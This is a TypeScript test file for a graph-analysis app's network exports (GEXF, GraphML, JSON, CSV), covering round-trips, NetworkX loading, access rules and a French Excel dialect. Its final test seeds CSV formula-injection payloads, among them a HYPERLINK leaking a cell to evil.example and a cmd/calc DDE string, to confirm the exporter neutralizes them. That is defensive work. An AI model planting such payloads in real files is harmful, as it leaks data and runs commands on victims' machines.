import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp } from '../helpers/app';
import { readTable, parseDecimal, parseDay } from '../../src/transfer/table';
import { LABELS_FR } from '../../src/transfer/labels-fr';
import { nodeSize, SECTOR_COLORS } from '../../src/common/drawing';

/** Exports parse back with the same nodes and edges, in our own parsers and in NetworkX. */
describe('network exports', () => {
  let t: TestApp;
  let analyst: string;
  let expected: { nodes: Set<string>; edges: Set<string> };
  /** The demo's bonds (whole network): dates and direction, to check the GEXF timeline against. */
  let bonds: Map<string, { since: string | null; until: string | null; directed: boolean }>;
  const dir = mkdtempSync(join(tmpdir(), 'agencement-export-'));

  beforeAll(async () => {
    t = await startTestApp({ seedDemo: true });
    analyst = await t.key('ANALYST');
    const res = await t.gql(`{ network(scope: { operation: "FOOD_GOVERNANCE" }) { nodes { id } edges { id } } }`, {}, analyst);
    expected = { nodes: new Set(res.data.network.nodes.map((n: any) => n.id)), edges: new Set(res.data.network.edges.map((e: any) => e.id)) };
    expect(expected.nodes.size).toBeGreaterThan(10);
    const all = await t.gql(`{ network { edges { id since until directed } } }`, {}, analyst);
    bonds = new Map(all.data.network.edges.map((e: any) => [e.id, { since: e.since, until: e.until, directed: e.directed }]));
    expect(bonds.size).toBeGreaterThan(expected.edges.size);
  });
  afterAll(async () => {
    await t.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  const get = async (file: string, query = 'operation=FOOD_GOVERNANCE', key: string | null = analyst) => {
    const res = await fetch(t.app.url.replace('/graphql', `/export/${file}?${query}`), { headers: key ? { authorization: `Bearer ${key}` } : {} });
    const bytes = Buffer.from(await res.arrayBuffer());
    return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), bytes, text: bytes.toString('utf8') };
  };
  const asArray = <T>(x: T | T[] | undefined): T[] => (x == null ? [] : Array.isArray(x) ? x : [x]);

  it('GEXF: same nodes and edges, with sector and scores as attributes', async () => {
    const { status, type, text } = await get('network.gexf');
    expect(status).toBe(200);
    expect(type).toMatch(/gexf/);
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(text);
    const g = doc.gexf.graph;
    const attrs = asArray<any>(g.attributes[0].attribute).map((a) => a.title);
    expect(attrs).toEqual(expect.arrayContaining(['sector', 'kind', 'betweenness', 'pagerank', 'community']));
    const nodes = asArray<any>(g.nodes.node);
    expect(new Set(nodes.map((n) => n.id))).toEqual(expected.nodes);
    expect(new Set(asArray<any>(g.edges.edge).map((e) => e.id))).toEqual(expected.edges);
    const sectorIdx = String(attrs.indexOf('sector'));
    expect(asArray<any>(nodes[0].attvalues.attvalue).find((v) => v.for === sectorIdx).value).toMatch(/^[A-Z_]+$/);
    writeFileSync(join(dir, 'n.gexf'), text);
  });

  it("GEXF 1.3: the explorer's colours (by sector), sizes (by betweenness) and positions as viz attributes", async () => {
    const { text } = await get('network.gexf');
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(text);
    expect(doc.gexf).toMatchObject({ version: '1.3', xmlns: 'http://gexf.net/1.3', 'xmlns:viz': 'http://gexf.net/1.3/viz' });
    const attrs = asArray<any>(doc.gexf.graph.attributes[0].attribute);
    const idOf = (title: string) => attrs.find((a) => a.title === title).id;
    const nodes = asArray<any>(doc.gexf.graph.nodes.node);
    const value = (n: any, title: string) => asArray<any>(n.attvalues.attvalue).find((v) => v.for === idOf(title))?.value;
    const max = Math.max(...nodes.map((n) => Number(value(n, 'betweenness') ?? 0)));
    expect(max).toBeGreaterThan(0);
    const hex = (c: any) => `#${[c.r, c.g, c.b].map((x: string) => Number(x).toString(16).padStart(2, '0')).join('')}`;
    for (const n of nodes) {
      expect(hex(n['viz:color'])).toBe(SECTOR_COLORS[value(n, 'sector')]);
      expect(Number(n['viz:size'].value)).toBeCloseTo(nodeSize(Number(value(n, 'betweenness') ?? 0), max, nodes.length), 9);
      expect(Number.isFinite(Number(n['viz:position'].x)) && Number.isFinite(Number(n['viz:position'].y))).toBe(true);
    }
    const spread = (axis: 'x' | 'y') => Math.max(...nodes.map((n) => Number(n['viz:position'][axis]))) - Math.min(...nodes.map((n) => Number(n['viz:position'][axis])));
    expect(spread('x')).toBeGreaterThan(10); // laid out, not all at one point
    expect(new Set(nodes.map((n) => `${n['viz:position'].x},${n['viz:position'].y}`)).size).toBe(nodes.length);
  });

  it("GEXF: a dynamic graph whose edges live from the bond's since to its until; Gephi's timeline spans 2011–2015 on the demo", async () => {
    const { text } = await get('network.gexf', '');
    writeFileSync(join(dir, 'all.gexf'), text);
    const graph = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(text).gexf.graph;
    expect(graph).toMatchObject({ mode: 'dynamic', timeformat: 'date' });
    const edges = asArray<any>(graph.edges.edge);
    expect(new Set(edges.map((e) => e.id))).toEqual(new Set(bonds.keys()));
    let ended = 0;
    for (const e of edges) {
      const bond = bonds.get(e.id)!;
      expect([e.start ?? null, e.end ?? null]).toEqual([bond.since, bond.until]);
      expect(e.type).toBe('undirected'); // the default analysis is undirected
      if (bond.until) ended++;
    }
    expect(ended).toBeGreaterThan(0);
    // Gephi's timeline runs from the earliest bound to the latest one (an open bound adds none).
    const bounds = edges.flatMap((e) => [e.start, e.end]).filter(Boolean).sort();
    expect(bounds[0]!.slice(0, 4)).toBe('2011');
    expect(bounds.at(-1)!.slice(0, 4)).toBe('2015');
  });

  it('GEXF of a directed analysis: each bond says its own type; GraphML and node-link carry it as "directed" per edge', async () => {
    const gexf = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse((await get('network.gexf', 'directed=true')).text).gexf.graph;
    expect(gexf.defaultedgetype).toBe('directed');
    const types = asArray<any>(gexf.edges.edge).map((e) => [e.type, bonds.get(e.id)!.directed]);
    expect(types.every(([type, directed]) => type === (directed ? 'directed' : 'undirected'))).toBe(true);
    expect(new Set(types.map(([type]) => type))).toEqual(new Set(['directed', 'undirected']));
    const graphml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse((await get('network.graphml')).text).graphml.graph;
    for (const e of asArray<any>(graphml.edge)) expect(asArray<any>(e.data).find((d) => d.key === 'directed')['#text']).toBe(bonds.get(e.id)!.directed);
    for (const l of JSON.parse((await get('network.json')).text).edges) expect(l.directed).toBe(bonds.get(l.key)!.directed);
  });

  it('GraphML, node-link JSON and CSV: same nodes and edges', async () => {
    const graphml = await get('network.graphml');
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(graphml.text);
    expect(new Set(asArray<any>(doc.graphml.graph.node).map((n) => n.id))).toEqual(expected.nodes);
    expect(new Set(asArray<any>(doc.graphml.graph.edge).map((e) => e.id))).toEqual(expected.edges);
    writeFileSync(join(dir, 'n.graphml'), graphml.text);

    const json = await get('network.json');
    const nl = JSON.parse(json.text);
    expect(new Set(nl.nodes.map((n: any) => n.id))).toEqual(expected.nodes);
    expect(new Set(nl.edges.map((l: any) => l.key))).toEqual(expected.edges);
    writeFileSync(join(dir, 'n.json'), json.text);

    const nodes: any[] = parse((await get("nodes.csv")).text, { columns: true });
    const edges: any[] = parse((await get("edges.csv")).text, { columns: true });
    expect(new Set(nodes.map((n: any) => n.id))).toEqual(expected.nodes);
    expect(new Set(edges.map((e: any) => e.id))).toEqual(expected.edges);
    expect(Object.keys(nodes[0])).toEqual(expect.arrayContaining(['label', 'sector', 'degree', 'betweenness']));
  });

  it('opens in NetworkX (read_gexf, read_graphml, node_link_graph) with the same counts', () => {
    const script = `
import json, sys, networkx as nx
d = sys.argv[1]
g1 = nx.read_gexf(d + '/n.gexf')
g2 = nx.read_graphml(d + '/n.graphml')
g3 = nx.node_link_graph(json.load(open(d + '/n.json')))  # NetworkX 3.6's defaults, no argument
g4 = nx.read_gexf(d + '/all.gexf')
viz = [n for n, a in g1.nodes(data=True) if {'color', 'size', 'position'} <= set(a.get('viz', {}))]
starts = sorted(a['start'] for _, _, a in g4.edges(data=True) if 'start' in a)
ends = sorted(a['end'] for _, _, a in g4.edges(data=True) if 'end' in a)
print(json.dumps([g1.number_of_nodes(), g2.number_of_nodes(), g3.number_of_nodes(), g3.number_of_edges(), g2.number_of_edges(),
  len(viz), g4.graph['mode'], starts[0][:4], max(starts + ends)[:4], g4.number_of_edges()]))`;
    const out = JSON.parse(execFileSync('python3', ['-c', script, dir], { encoding: 'utf8' }));
    expect(out.slice(0, 4)).toEqual([expected.nodes.size, expected.nodes.size, expected.nodes.size, expected.edges.size]);
    expect(out.slice(5)).toEqual([expected.nodes.size, 'dynamic', '2011', '2015', bonds.size]);
  });

  it('applies the analytics access rules and validates parameters', async () => {
    expect((await get('network.gexf', 'operation=FOOD_GOVERNANCE', null)).status).toBe(401);
    const bad = await get('network.gexf', 'sectors=ECONOMIC,ROBOTS');
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.text).errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect((await get('network.xlsx')).status).toBe(404);
    const date = await get('network.gexf', 'operation=FOOD_GOVERNANCE&asOf=2012-01-01');
    expect(date.status).toBe(200);
    const early = (new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(date.text).gexf.graph.edges?.edge ?? []) as unknown[];
    expect(asArray(early).length).toBeLessThan(expected.edges.size);
  });
  it('dialect=excel-fr: BOM, ;, CRLF, French headers and labels, decimal comma, dd/mm/yyyy, department names', async () => {
    const fr = await get('nodes.csv', 'operation=FOOD_GOVERNANCE&dialect=excel-fr');
    expect(fr.status).toBe(200);
    expect(fr.type).toMatch(/^text\/csv/);
    expect([...fr.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(fr.text.split('\r\n')[0]).toBe('\uFEFFIdentifiant;Nom;Type;Secteur;Direction;Opérations;Degré;Proximité;Intermédiarité;Vecteur propre;PageRank;Contrainte;Communauté');
    expect(fr.text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const cols = ['id', 'label', 'kind', 'sector', 'department', 'operations', 'degree', 'betweenness'];
    const aliases: Record<string, string> = { id: 'Identifiant', label: 'Nom', kind: 'Type', sector: 'Secteur', department: 'Direction', operations: 'Opérations', degree: 'Degré', betweenness: 'Intermédiarité' };
    const frRows = readTable(fr.bytes, cols.map((name) => ({ name, aliases: [aliases[name]!] })), 'nodes.csv');
    expect(frRows.problems).toEqual([]);
    expect(frRows.encoding).toBe('utf-8-bom');
    expect(frRows.separator).toBe(';');
    expect(new Set(frRows.rows.map((r) => r.cells.id))).toEqual(expected.nodes);

    const en: any[] = parse((await get('nodes.csv')).text, { columns: true });
    const enById = new Map(en.map((n) => [n.id, n]));
    const firstLabel = (labels: Record<string, string[]>, code: string) => labels[code]![0];
    let decimals = 0;
    let departments = 0;
    for (const { cells } of frRows.rows) {
      const e = enById.get(cells.id)!;
      expect(cells.sector).toBe(firstLabel(LABELS_FR.Sector, e.sector));
      expect(cells.kind).toBe(firstLabel(LABELS_FR.ActorKind, e.kind));
      expect(cells.label).toBe(e.label);
      // same number, written with a comma and at most Excel's 15 significant digits
      if (e.betweenness !== '') {
        expect(cells.betweenness).not.toContain('.');
        expect(parseDecimal(cells.betweenness!)).toBeCloseTo(Number(e.betweenness), 12);
        if (cells.betweenness!.includes(',')) decimals++;
      }
      if (e.operations) expect(cells.operations).toBe(e.operations.split(';').join(' | '));
      const dep = e.department ? enById.get(e.department) : undefined;
      if (dep) {
        expect(cells.department).toBe(dep.label);
        departments++;
      }
    }
    expect(decimals).toBeGreaterThan(0);
    expect(departments).toBeGreaterThan(0);

    const edges = await get('edges.csv', 'operation=FOOD_GOVERNANCE&dialect=excel-fr');
    const edgeRows = readTable(edges.bytes, [{ name: 'kind', aliases: ['Type de lien'] }, { name: 'since', aliases: ['Depuis'] }, { name: 'id', aliases: ['Identifiant'] }], 'edges.csv');
    expect(new Set(edgeRows.rows.map((r) => r.cells.id))).toEqual(expected.edges);
    const bondLabels = new Set(Object.values(LABELS_FR.BondKind).map((l) => l[0]));
    for (const r of edgeRows.rows) expect(bondLabels.has(r.cells.kind!)).toBe(true);
    const dated = edgeRows.rows.filter((r) => r.cells.since);
    expect(dated.length).toBeGreaterThan(0);
    for (const r of dated) {
      expect(r.cells.since).toMatch(/^\d{2}\/\d{2}\/\d{4}$/);
      expect(parseDay(r.cells.since!)).not.toBeNull();
    }
  });

  it('names the file after the scope and its date; refuses an unknown dialect, listing the allowed ones', async () => {
    const today = new Date().toISOString().slice(0, 10);
    expect((await get('nodes.csv')).disposition).toBe(`attachment; filename="tesr-FOOD_GOVERNANCE-${today}-nodes.csv"`);
    expect((await get('edges.csv', 'operation=FOOD_GOVERNANCE&asOf=2014-12-31&dialect=excel-fr')).disposition).toBe('attachment; filename="tesr-FOOD_GOVERNANCE-2014-12-31-edges.csv"');
    expect((await get('network.gexf', '')).disposition).toBe(`attachment; filename="tesr-all-${today}-network.gexf"`);
    const bad = await get('nodes.csv', 'operation=FOOD_GOVERNANCE&dialect=excel');
    expect(bad.status).toBe(400);
    const error = JSON.parse(bad.text).errors[0];
    expect(error.extensions.code).toBe('BAD_USER_INPUT');
    expect(error.message).toMatch(/dialect: must be one of rfc4180, excel-fr/);
  });

  it('neutralizes formula cells in nodes.csv, in both dialects', async () => {
    const editor = await t.key('EDITOR');
    for (const name of ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-1+2']) {
      const res = await t.gql(`mutation($name: String!) { createActor(input: { name: $name, kind: ORGANIZATION, sector: ECONOMIC, source: "evil" }) { id } }`, { name }, editor);
      expect(res.errors).toBeUndefined();
    }
    for (const dialect of ['rfc4180', 'excel-fr']) {
      const { text } = await get('nodes.csv', `source=evil&dialect=${dialect}`);
      const cells: string[][] = parse(text, { bom: true, delimiter: dialect === 'excel-fr' ? ';' : ',', from_line: 2 });
      expect(cells.map((c) => c[1]).sort()).toEqual(["'-1+2", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "'@SUM(1+1)*cmd|' /C calc'!A0"]);
      // scores stay numbers (an isolate's degree is 0)
      expect(cells.every((c) => /^[0-9]/.test(c[6]!))).toBe(true);
    }
  });
});
